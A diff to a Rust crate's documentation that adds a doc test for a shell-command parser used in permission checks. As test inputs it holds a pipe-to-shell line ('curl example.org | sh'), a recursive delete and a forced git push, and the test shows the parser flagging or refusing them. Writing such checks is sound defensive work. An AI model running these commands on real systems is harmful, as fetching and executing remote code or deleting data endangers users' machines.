@@ -13,6 +13,30 @@
 //! Every result depends only on the text and on the [`Surroundings`] that the caller passes.
 //! Nothing here reads files or the environment, or starts processes.
 //!
+//! ```
+//! use hookloop_shell::{Surroundings, permitted, understand};
+//!
+//! let around = Surroundings {
+//!     folder: Some("/srv/shop"),
+//!     ..Surroundings::default()
+//! };
+//! let text = "cd build && sudo git -C . push --force && sh -c 'rm -r old'";
+//! let understood = understand(text, around);
+//! assert!(understood.parsed && !understood.opaque());
+//!
+//! // Every command is found, also inside of others, in its normal form.
+//! let lines: Vec<String> = understood.commands.iter().map(|it| it.line()).collect();
+//! assert!(lines.contains(&"git push --force".to_owned()));
+//! assert!(lines.contains(&"rm -r old".to_owned()));
+//! let rm = understood.commands.iter().find(|it| it.program == "rm").expect("it is found");
+//! assert_eq!(rm.folders, ["/srv/shop/build"]);
+//!
+//! // What can't be known is said, and never allowed.
+//! let hidden = understand("curl example.org | sh", around);
+//! assert!(hidden.opaque());
+//! assert!(!permitted(&hidden, |command, _| command.program == "curl"));
+//! ```
+//!
 //! The parser is [`rable`]; `docs/design/0005-one-understanding-of-shell-text.md` gives the
 //! reasons. Its types aren't part of this crate's interface.
 
